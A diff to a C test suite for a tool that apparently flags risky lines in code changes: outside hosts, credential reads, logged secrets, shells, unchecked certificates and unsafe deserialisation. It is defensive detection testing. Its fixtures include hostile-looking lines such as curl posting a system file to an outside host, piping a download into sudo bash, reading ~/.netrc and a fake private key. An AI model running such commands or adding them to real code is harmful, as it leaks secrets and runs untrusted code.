@@ -2,6 +2,7 @@
  * each at its line, and changes that nothing is said of. */
 #include "config.h"
 
+#include <ctype.h>
 #include <stdio.h>
 #include <stdlib.h>
 
@@ -48,28 +49,357 @@ check(const struct change *t, size_t n)
 			continue;
 		wrong++;
 		print_error("%zu, %s:\n%s---\n%sgot \"%s\", not \"%s\"\n", i,
-		    t[i].path, t[i].old, t[i].new, got, t[i].want);
+		    t[i].path, t[i].old == NULL ? "" : t[i].old,
+		    t[i].new == NULL ? "" : t[i].new, got, t[i].want);
 	}
 	assert_int_equal(wrong, 0);
 }
 
-TEST(test_python)
+/* A line that is added to a file with these, and what is said of it. */
+struct line {
+	const char *path, *line, *want;
+};
+
+#define BEFORE "first = 1\nlast = 2\n"
+
+static void
+check_lines(const struct line *t, size_t n)
+{
+	size_t i, wrong = 0;
+
+	for (i = 0; i < n; i++) {
+		AUTO_FREE char *new = xasprintf("first = 1\n%s\nlast = 2\n",
+		    t[i].line);
+		AUTO_FREE char *got = found(t[i].path, BEFORE, new);
+		AUTO_FREE char *want = xstrdup(t[i].want);
+
+		/* All are at the second line, unless it says so. */
+		if (*want != '\0' && !isdigit((unsigned char)*want))
+			FREE_SET(want, xasprintf("2 %s", t[i].want));
+		if (strcmp(got, want) == 0)
+			continue;
+		wrong++;
+		print_error("%zu, %s: %s\ngot \"%s\", not \"%s\"\n", i,
+		    t[i].path, t[i].line, got, want);
+	}
+	assert_int_equal(wrong, 0);
+}
+
+TEST(test_hosts)
+{
+	static const struct line t[] = {
+		{ "a.py", "post('https://a.metrics.org/c')",
+		  "host a.metrics.org" },
+		{ "a.py", "HOST = \"collect.tracker.net\"",
+		  "host collect.tracker.net" },
+		{ "a.py", "server = ('stats.acme.io', 443)",
+		  "host stats.acme.io" },
+		{ "a.py", "DNS = ['8.8.4.4']", "host 8.8.4.4" },
+		{ "a.js", "const u = `wss://${room}.push.dev/x`",
+		  "host push.dev" },
+		{ "a.js", "fetch('//cdn.acme.com/x.js')", "" },
+		{ "a.go", "\tbase := \"http://user@10.1.2.3:80/\"",
+		  "host 10.1.2.3" },
+		{ "a.c", "connect_to(\"irc.acme.org\", 6667);",
+		  "host irc.acme.org" },
+		{ "a.sh", "curl -d @/etc/os-release https://drop.acme.org",
+		  "host drop.acme.org" },
+		{ "a.sh", "scp out.tar bob@files.acme.org:/in",
+		  "address bob@files.acme.org" },
+		{ "Makefile", "\twget http://dl.acme.org/x.tgz",
+		  "host dl.acme.org" },
+		{ "Dockerfile", "FROM ghcr.acme.io/base:1",
+		  "host ghcr.acme.io" },
+		{ ".github/workflows/ci.yml",
+		  "      - run: curl https://dl.acme.org",
+		  "host dl.acme.org" },
+		{ "conf.json", "  \"endpoint\": \"https://in.acme.org/v1\",",
+		  "host in.acme.org" },
+		{ "conf.yml", "  host: mail.acme.org", "host mail.acme.org" },
+		{ "conf.yml", "  - 203.0.112.9", "host 203.0.112.9" },
+		{ "conf.toml", "bind = \"db.acme.io:5432\"",
+		  "host db.acme.io" },
+		{ ".env", "SMTP_HOST=smtp.acme.co", "host smtp.acme.co" },
+		{ ".env.production", "DSN=https://k@o1.ingest.acme.org/2",
+		  "host o1.ingest.acme.org" },
+		{ "app.properties", "url=jdbc:mysql://db.acme.net:3306/x",
+		  "host db.acme.net" },
+		{ "pom.xml", "  <url>https://repo.acme.org/maven</url>",
+		  "host repo.acme.org" },
+		{ "a.rb", "  mail to: 'ops@acme.org', bcc: 'x@acme.net'",
+		  "address ops@acme.org" },
+		{ "a.yml", "  recipients: [ops@acme.org]",
+		  "address ops@acme.org" },
+		/* Not what it looks like. */
+		{ "a.py", "x = 1  # https://a.metrics.org", "" },
+		{ "a.py", "\"\"\"See https://a.metrics.org.\"\"\"", "" },
+		{ "a.py", "raise E('read https://acme.org/help')", "" },
+		{ "a.py", "get('https://example.com/x')", "" },
+		{ "a.py", "get('http://127.0.0.1:80')", "" },
+		{ "a.py", "get('http://192.0.2.7/')", "" },
+		{ "a.py", "get('http://api.service.test/')", "" },
+		{ "a.py", "get('http://redis/')", "" },
+		{ "a.py", "VERSION = '1.22.3.4'", "" },
+		{ "a.py", "name = 'django.contrib.auth'", "" },
+		{ "a.java", "String p = \"com.acme.app\";", "" },
+		{ "a.js", "import x from 'socket.io'", "" },
+		{ "a.js", "load('user.store')", "" },
+		{ "a.xml", "<a xmlns=\"http://schemas.acme.org/a\">", "" },
+		{ "package.json", "  \"homepage\": \"https://acme.org\",", "" },
+		{ "package.json", "  \"author\": \"B <b@acme.org>\",", "" },
+		{ "a.ini", "; see https://acme.org", "" },
+		{ "a.json", "  // see https://acme.org", "" },
+		{ "a.sh", "echo \"see https://acme.org\"", "" },
+		{ "a.md", "https://a.metrics.org", "" },
+		{ "conf.yml.example", "host: mail.acme.org", "" },
+	};
+
+	check_lines(t, MEM_COUNT(t));
+}
+
+TEST(test_credentials)
+{
+	static const struct line t[] = {
+		{ "a.py", "k = os.environ['AWS_SECRET_ACCESS_KEY']",
+		  "reads AWS_SECRET_ACCESS_KEY" },
+		{ "a.py", "k = os.getenv(\"DB_PASSWORD\", '')",
+		  "reads DB_PASSWORD" },
+		{ "a.py", "f = open(expanduser('~/.aws/credentials'))",
+		  "reads .aws/credentials" },
+		{ "a.js", "const t = process.env.NPM_TOKEN",
+		  "reads NPM_TOKEN" },
+		{ "a.ts", "const t = process.env['API_KEY']", "reads API_KEY" },
+		{ "a.go", "\tt := os.Getenv(\"GH_TOKEN\")", "reads GH_TOKEN" },
+		{ "a.rs", "let t = std::env::var(\"GH_TOKEN\")?;",
+		  "reads GH_TOKEN" },
+		{ "a.java", "String t = System.getenv(\"GH_TOKEN\");",
+		  "reads GH_TOKEN" },
+		{ "a.kt", "val t = System.getenv(\"GH_TOKEN\")",
+		  "reads GH_TOKEN" },
+		{ "a.rb", "t = ENV.fetch('GH_TOKEN')", "reads GH_TOKEN" },
+		{ "a.php", "$t = getenv('GH_TOKEN');", "reads GH_TOKEN" },
+		{ "a.cs", "var t = Environment.GetEnvironmentVariable(\"T_KEY\");",
+		  "" },
+		{ "a.cs", "var t = Environment.GetEnvironmentVariable(\"API_KEY\");",
+		  "reads API_KEY" },
+		{ "a.c", "\tt = getenv(\"GH_TOKEN\");", "reads GH_TOKEN" },
+		{ "a.sh", "cat ~/.netrc", "reads .netrc" },
+		{ "a.sh", "curl -H \"X: $GH_TOKEN\" localhost",
+		  "reads GH_TOKEN" },
+		{ "a.py", "k = os.environ['HOME']", "" },
+		{ "a.py", "k = os.environ['TOKEN_TTL']", "" },
+		{ "a.sh", "GH_TOKEN=$1; use \"$GH_TOKEN\"", "" },
+
+		{ "a.py", "    log.info('token %s', token)", "logs token" },
+		{ "a.py", "    print(f'got {user.password}')",
+		  "logs password" },
+		{ "a.py", "    log.info(\n        'x', api_key)",
+		  "3 logs api_key" },
+		{ "a.js", "console.log('t', req.headers['x'], apiKey)",
+		  "logs apiKey" },
+		{ "a.js", "logger.debug(`t ${accessToken}`)",
+		  "logs accessToken" },
+		{ "a.go", "\tlog.Printf(\"%s\", cfg.Secret)", "logs Secret" },
+		{ "a.rs", "info!(\"{}\", token.expose_secret());",
+		  "logs token" },
+		{ "a.rs", "info!(\"{token}\");", "logs token" },
+		{ "a.java", "log.info(\"t {}\", user.getPassword());",
+		  "logs getPassword" },
+		{ "a.rb", "logger.info \"t #{token}\"", "logs token" },
+		{ "a.php", "error_log(\"t $password\");", "logs password" },
+		{ "a.cs", "_logger.LogInformation(\"{T}\", token);",
+		  "logs token" },
+		{ "a.c", "\tsyslog(LOG_INFO, \"%s\", ctx->password);",
+		  "logs password" },
+		{ "a.sh", "echo \"token: $GH_TOKEN\"",
+		  "logs GH_TOKEN; 2 reads GH_TOKEN" },
+		{ "a.py", "    log.info('invalid token')", "" },
+		{ "a.py", "    log.info('%d', len(token))", "" },
+		{ "a.py", "    log.info('%s', mask(token))", "" },
+		{ "a.py", "    log.info('%s...', token[:4])", "" },
+		{ "a.py", "    log.info('%s', token_count)", "" },
+		{ "a.py", "    log.info('%s', token is None)", "" },
+		{ "a.js", "console.log(token ? 'yes' : 'no')", "" },
+		{ "a.js", "console.log(token.type)", "" },
+		{ "a.go", "\tlog.Printf(\"%s\", validateToken(t))", "" },
+		{ "a.sh", "echo \"$GH_TOKEN\" | login --stdin",
+		  "reads GH_TOKEN" },
+
+		{ "a.py", "KEY = 'AKIAIOSFODNN7ABCDEFG'",
+		  "a value that looks like a key" },
+		{ "a.yml", "  api_key: 9f86d081884c7d659a2feaa0c55ad015",
+		  "a value that looks like a key" },
+		{ "a.js", "const c = { apiKey: \"q8Zr4Tn1Lw7Pk2Vd9Xs3\" }",
+		  "a value that looks like a key" },
+		{ "a.toml", "url = \"postgres://u:q8Zr4Tn1Lw7Pk2Vd9Xs3@db/x\"",
+		  "a value that looks like a key" },
+		{ "a.pem", "x", "" },
+		{ "a.py", "CSRF_HEADER = 'x-0123456789-abcdefgh-1234'", "" },
+		{ "a.json", "  \"sha\": \"9f86d081884c7d659a2feaa0c55ad015\"",
+		  "" },
+		{ "a.py", "API_KEY = 'your-api-key-0123-4567-89'", "" },
+	};
+
+	check_lines(t, MEM_COUNT(t));
+}
+
+TEST(test_forms)
+{
+	static const struct line t[] = {
+		{ "a.py", "subprocess.run(a)", "starts a process" },
+		{ "a.py", "subprocess.run(a, shell=True)", "starts a shell" },
+		{ "a.py", "    shell=True,", "starts a shell" },
+		{ "a.js", "require('child_process').exec(a)", "" },
+		{ "a.js", "cp.execSync(a) // child_process", "starts a shell" },
+		{ "a.js", "const m = /x/.exec(a)", "" },
+		{ "a.go", "\texec.Command(\"sh\", \"-c\", a).Run()",
+		  "starts a shell" },
+		{ "a.go", "\texec.Command(\"ls\").Run()", "starts a process" },
+		{ "a.rs", "std::process::Command::new(\"ls\").spawn()?;",
+		  "starts a process" },
+		{ "a.rs", "let c = Command::new(\"app\").arg(x);", "" },
+		{ "a.java", "Runtime.getRuntime().exec(a);",
+		  "starts a process" },
+		{ "a.kt", "ProcessBuilder(\"ls\").start()",
+		  "starts a process" },
+		{ "a.rb", "system(\"ls #{a}\")", "starts a shell" },
+		{ "a.rb", "x = `ls`", "starts a shell" },
+		{ "a.php", "shell_exec($a);", "starts a shell" },
+		{ "a.php", "$db->exec($a);", "" },
+		{ "a.php", "public function exec($a)", "" },
+		{ "a.cs", "Process.Start(a);", "starts a process" },
+		{ "a.c", "\tsystem(a);", "starts a shell" },
+		{ "a.c", "\tp = fork();", "starts a process" },
+		{ "a.c", "int system(const char *);", "" },
+		{ "build.gradle", "  exec { commandLine 'ls' }",
+		  "starts a process" },
+
+		{ "a.py", "requests.get(u, verify=False)",
+		  "certificates unchecked" },
+		{ "a.py", "ctx.check_hostname = False",
+		  "certificates unchecked" },
+		{ "a.py", "jwt.decode(t, k, options={'verify_signature': False})",
+		  "signatures unchecked" },
+		{ "a.py", "c.set_missing_host_key_policy(paramiko.AutoAddPolicy())",
+		  "host keys unchecked" },
+		{ "a.js", "agent = new Agent({ rejectUnauthorized: false })",
+		  "certificates unchecked" },
+		{ "a.js", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'",
+		  "certificates unchecked" },
+		{ "a.go", "\tc := &tls.Config{InsecureSkipVerify: true}",
+		  "certificates unchecked" },
+		{ "a.rs", "    .danger_accept_invalid_certs(true)",
+		  "certificates unchecked" },
+		{ "a.java", "b.hostnameVerifier((h, s) -> true);",
+		  "certificates unchecked" },
+		{ "a.rb", "http.verify_mode = OpenSSL::SSL::VERIFY_NONE",
+		  "certificates unchecked" },
+		{ "a.php", "curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);",
+		  "certificates unchecked" },
+		{ "a.cs", "h.ServerCertificateCustomValidationCallback = "
+		  "(a, b, c, d) => true;", "certificates unchecked" },
+		{ "a.c", "curl_easy_setopt(c, CURLOPT_SSL_VERIFYPEER, 0L);",
+		  "certificates unchecked" },
+		{ "a.sh", "curl -k \"$u\"", "certificates unchecked" },
+		{ "a.sh", "ssh -o StrictHostKeyChecking=no h",
+		  "host keys unchecked" },
+		{ "a.yml", "  verify_ssl: false", "certificates unchecked" },
+		{ "a.py", "requests.get(u, verify=True)", "" },
+
+		{ "a.py", "pickle.loads(b)", "runs data as code" },
+		{ "a.py", "yaml.load(b)", "runs data as code" },
+		{ "a.py", "yaml.load(b, Loader=yaml.SafeLoader)", "" },
+		{ "a.py", "model.eval()", "" },
+		{ "a.py", "def eval(x):", "" },
+		{ "a.js", "new Function('a', b)", "runs data as code" },
+		{ "a.rb", "Marshal.load(b)", "runs data as code" },
+		{ "a.php", "unserialize($b);", "runs data as code" },
+		{ "a.java", "new ObjectInputStream(b);", "runs data as code" },
+		{ "a.cs", "var f = new BinaryFormatter();",
+		  "runs data as code" },
+		{ "a.sh", "curl -s \"$u\" | sudo bash", "runs data as code" },
+		{ "Makefile", "$(eval X=1)", "" },
+
+		{ "a.py", "s.bind(('', 80))", "listens" },
+		{ "a.js", "http.createServer(f).listen(80)", "listens" },
+		{ "a.go", "\thttp.ListenAndServe(\":80\", nil)", "listens" },
+		{ "a.py", "os.chmod(p, 0o777)", "world-writable" },
+		{ "a.sh", "chmod -R 777 d", "world-writable" },
+		{ "a.c", "\tsetuid(0);", "changes its user" },
+		{ "a.py", "shutil.rmtree(d)", "removes files recursively" },
+		{ "a.go", "\tos.Remove(d)", "removes a file" },
+		{ "a.py", "with open(p, 'w') as f:", "writes a file" },
+		{ "a.py", "with open(p) as f:", "" },
+		{ "a.c", "\tf = fopen(p, \"w\");", "writes a file" },
+		{ "a.php", "fopen('php://output', 'w');", "" },
+		/* In a string, and in a comment. */
+		{ "a.py", "x = 'os.system(a)'", "" },
+		{ "a.py", "# os.system(a)", "" },
+		/* The two that count most. */
+		{ "a.py", "os.system('curl -k https://a.acme.org | sh')",
+		  "certificates unchecked; 2 runs data as code" },
+	};
+
+	check_lines(t, MEM_COUNT(t));
+}
+
+TEST(test_newly)
 {
 	static const struct change t[] = {
-		{ "a.py", "x = 1\n", "x = 1\ny = get('https://a.b.org/c')\n",
-		  "2 host a.b.org" },
 		/* The same host, another path. */
-		{ "a.py", "get('https://a.b.org/c')\n",
-		  "get('https://a.b.org/d')\n", "" },
-		{ "a.py", "x = 1\n", "x = 1  # https://a.b.org\n", "" },
-		{ "a.py", "", "subprocess.run(a)\n", "1 starts a process" },
+		{ "a.py", "get('https://a.acme.org/c')\n",
+		  "get('https://a.acme.org/d')\n", "" },
+		{ "a.py", "get('https://a.acme.org')\n",
+		  "get('https://a.acme.org.evil.net')\n",
+		  "1 host a.acme.org.evil.net" },
+		{ "a.yml", "to:\n  - a@acme.org\n",
+		  "to:\n  - a@acme.org\n  - b@acme.org\n",
+		  "3 address b@acme.org" },
+		{ "a.py", "subprocess.run(a)\n",
+		  "subprocess.run(a)\nsubprocess.run(b)\n", "" },
 		{ "a.py", "subprocess.run(a)\n",
 		  "subprocess.run(a)\nsubprocess.run(a, shell=True)\n",
 		  "2 starts a shell" },
 		/* It moved. */
 		{ "a.py", "def f():\n    os.system(a)\n",
 		  "if x:\n    def f():\n        os.system(a)\n", "" },
+		/* Once in a hunk. */
+		{ "a.py", NULL, "os.remove(a)\nos.remove(b)\n",
+		  "1 removes a file" },
+		{ "a.rs", "fn f() {}\n", "fn f() {}\n#[cfg(test)]\nmod t {\n"
+		  "    fn g() { std::fs::remove_file(x); }\n}\n", "" },
+		{ "a.py", "x\n", NULL, "" },
+		{ "a.key.py", "x\n", "x\nK = \"\"\"\n"
+		  "-----BEGIN RSA PRIVATE KEY-----\n"
+		  "MIIEowIBAAKCAQEAx8Zr4Tn1Lw7Pk2Vd9Xs3q8Zr4Tn1Lw7Pk2Vd9Xs3\n"
+		  "-----END RSA PRIVATE KEY-----\n\"\"\"\n",
+		  "4 a value that looks like a key" },
 	};
 
 	check(t, MEM_COUNT(t));
+}
+
+/* Nothing is read out of bounds, and it ends soon, whatever a text has. */
+TEST(test_any_text)
+{
+	static const char *const ends[] = { "py", "js", "go", "rs", "java",
+		"rb", "php", "cs", "c", "sh", "yml", "json", "mk" };
+	static const char parts[] = "os.environ[\"${://a.b@c.com:'`(){}|-> "
+	    "\\\n\"\"\"#/*token=print(log.info(f\"{";
+	struct buf b = BUF_INIT(0);
+	size_t i, n;
+
+	for (i = 0; i < 4000; i++)
+		buf_addc(&b, parts[(i * i + i / 7) % (sizeof(parts) - 1)]);
+	for (i = 0; i < MEM_COUNT(ends); i++) {
+		AUTO_FREE char *path = xasprintf("a.%s", ends[i]);
+
+		free(found(path, NULL, b.p));
+		for (n = 0; n < 200; n++) {
+			AUTO_FREE char *part = xmemdup(b.p + n * 7, n);
+
+			free(found(path, "x\n", part));
+		}
+	}
+	buf_release(&b);
 }
